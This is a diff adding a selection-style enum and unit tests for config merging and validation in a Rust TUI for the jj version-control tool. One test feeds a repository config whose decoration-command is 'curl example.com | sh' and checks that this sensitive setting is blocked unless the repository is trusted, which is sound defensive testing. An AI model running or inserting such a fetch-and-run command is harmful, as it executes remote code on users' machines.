+#[derive(Clone, Debug, Deserialize, Copy, Default, PartialEq)]
+#[serde(rename_all = "kebab-case")]
+pub enum SelectionStyle {
+    /// Background of the highlight color
+    #[default]
+    Background,
+    /// Bold marker before the line, keeping its colors
+    Arrow,
+    /// Reverse video
+    Reverse,
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn skip_invalid_config() {
+        let table: toml::Table = toml::from_str(
+            r#"
+"lazyjj.diff-format" = "colour-words"
+"lazyjj.highlight-color" = "Blue"
+"lazyjj.bookmark-prefix" = "lazyjj/"
+"lazyjj.transient-retries" = -1
+"ui.color" = "always"
+"user.name" = "Jane"
+"#,
+        )
+        .unwrap();
+        let (config, warnings) = merge_config_layers(table, None, &[]);
+
+        // Valid values are kept, including those lazyjj doesn't know
+        assert_eq!(config.highlight_color(), Color::Blue);
+        assert_eq!(config.bookmark_prefix(), "lazyjj/");
+        assert_eq!(config.ui_color(), Some("always"));
+        // Invalid ones use the default
+        assert_eq!(config.diff_format(), DiffFormat::ColorWords);
+        assert_eq!(config.transient_retries(), 2);
+
+        let keys: Vec<&str> = warnings
+            .iter()
+            .map(|warning| warning.key.as_str())
+            .collect();
+        assert_eq!(keys, ["lazyjj.diff-format", "lazyjj.transient-retries"]);
+        assert_eq!(warnings[0].value, r#""colour-words""#);
+        assert!(warnings[0].message.contains("unknown variant"));
+    }
+
+    #[test]
+    fn merge_config_precedence() {
+        let user: toml::Table = toml::from_str(
+            r#"
+"lazyjj.diff-format" = "git"
+"lazyjj.bookmark-prefix" = "user/"
+"lazyjj.wip-prefix" = "draft: "
+"lazyjj.highlight-color" = "Blue"
+"#,
+        )
+        .unwrap();
+        let repo_config = r#"
+[lazyjj]
+diff-format = "stat"
+bookmark-prefix = "team/"
+wip-prefix = "WIP "
+default-revset = "mine()"
+"#;
+        // `--jj-config` is also part of the user's jj config, as jj merges it
+        let jj_config = [r#"lazyjj.wip-prefix = "cli: ""#.to_owned()];
+        let mut user_with_cli = user.clone();
+        user_with_cli.insert("lazyjj.wip-prefix".to_owned(), "cli: ".into());
+
+        let (config, warnings) = merge_config_layers(user_with_cli, Some(repo_config), &jj_config);
+        assert_eq!(warnings, []);
+        // Command line, then the repository's file, then the user's config, then defaults
+        assert_eq!(config.wip_prefix(), "cli: ");
+        assert_eq!(config.diff_format(), DiffFormat::Stat);
+        assert_eq!(config.bookmark_prefix(), "team/");
+        assert_eq!(config.highlight_color(), Color::Blue);
+        assert_eq!(config.transient_retries(), 2);
+        assert_eq!(config.default_revset(), Some("mine()"));
+
+        // Without the repository's file
+        let (config, _) = merge_config_layers(user, None, &[]);
+        assert_eq!(config.diff_format(), DiffFormat::Git);
+        assert_eq!(config.wip_prefix(), "draft: ");
+        assert_eq!(config.default_revset(), None);
+    }
+
+    #[test]
+    fn skip_invalid_repo_config() {
+        let user: toml::Table = toml::from_str(r#""lazyjj.diff-format" = "git""#).unwrap();
+
+        // Not TOML, so the file is skipped
+        let (config, warnings) =
+            merge_config_layers(user.clone(), Some("[lazyjj\ndiff-format = "), &[]);
+        assert_eq!(config.diff_format(), DiffFormat::Git);
+        assert_eq!(warnings.len(), 1);
+        assert!(warnings[0]
+            .to_string()
+            .starts_with(".lazyjj.toml: skipped, as it failed to parse: "));
+
+        // Invalid values, other settings and sensitive settings are skipped
+        let repo_config = r#"
+ui.color = "never"
+
+[lazyjj]
+diff-format = "colour-words"
+decoration-command = "curl example.com | sh"
+shorten-paths = true
+"#;
+        let (config, warnings) = merge_config_layers(user.clone(), Some(repo_config), &[]);
+        assert_eq!(config.diff_format(), DiffFormat::Git);
+        assert_eq!(config.decoration_command(), None);
+        assert!(config.shorten_paths());
+        assert_eq!(
+            warnings
+                .iter()
+                .map(|warning| warning.key.as_str())
+                .collect::<Vec<_>>(),
+            [
+                ".lazyjj.toml: ui",
+                "lazyjj.diff-format",
+                "lazyjj.decoration-command"
+            ]
+        );
+
+        // Unless the user trusts the repository
+        let mut trusting = user;
+        trusting.insert("lazyjj.trust-repo-config".to_owned(), true.into());
+        let (config, _) = merge_config_layers(trusting, Some(repo_config), &[]);
+        assert_eq!(
+            config.decoration_command().as_deref(),
+            Some("curl example.com | sh")
+        );
+    }
+
+    #[test]
+    fn validate_config_ranges() {
+        let mut config: Config = toml::from_str(
+            r#"
+"lazyjj.transient-retries" = 50
+"lazyjj.graph-node-normal" = "()"
+"lazyjj.graph-node-immutable" = "◆"
+"lazyjj.diff-tools" = ["difft", " "]
+"#,
+        )
+        .unwrap();
+        let warnings = config.validate();
+        assert_eq!(
+            warnings.iter().map(ToString::to_string).collect::<Vec<_>>(),
+            [
+                "lazyjj.transient-retries = 50: must be at most 10",
+                r#"lazyjj.graph-node-normal = "()": must be a single character"#,
+                r#"lazyjj.diff-tools = ["difft", " "]: tool names can't be empty, so they were skipped"#,
+            ]
+        );
+        assert_eq!(config.transient_retries(), 2);
+        assert_eq!(
+            config.graph_nodes(),
+            GraphNodes {
+                immutable: Some("◆".to_owned()),
+                ..Default::default()
+            }
+        );
+        assert_eq!(config.diff_tools(), ["difft"]);
+
+        // Nothing to warn about, so nothing changes
+        assert!(Config::default().validate().is_empty());
+    }
+
+    #[test]
+    fn detect_graph_style_from_locale() {
+        assert_eq!(detect_graph_style(None), GraphStyle::Unicode);
+        assert_eq!(detect_graph_style(Some("en_US.UTF-8")), GraphStyle::Unicode);
+        assert_eq!(detect_graph_style(Some("C.utf8")), GraphStyle::Unicode);
+        assert_eq!(detect_graph_style(Some("C")), GraphStyle::Ascii);
+        assert_eq!(
+            detect_graph_style(Some("en_US.ISO-8859-1")),
+            GraphStyle::Ascii
+        );
+    }
 }